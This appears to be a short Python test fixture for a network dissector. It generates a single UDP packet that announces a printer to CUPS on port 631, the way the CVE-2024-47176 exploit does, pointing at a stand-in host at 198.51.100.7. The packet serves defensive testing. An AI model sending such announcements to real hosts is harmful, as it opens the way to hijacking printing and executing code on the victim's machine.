"""A printer announced to CUPS by a host to another one, as the exploit of CVE-2024-47176 does."""

from __future__ import annotations

from pcaps.dissectors._frames import DESKTOP, PBX, Frames, udp


def frames() -> Frames:
    printer = b'0 3 http://198.51.100.7:12345/printers/a "Office" "Printer"\n'
    yield udp(PBX, DESKTOP, "10.20.30.5", "10.20.30.14", 50000, 631, printer)
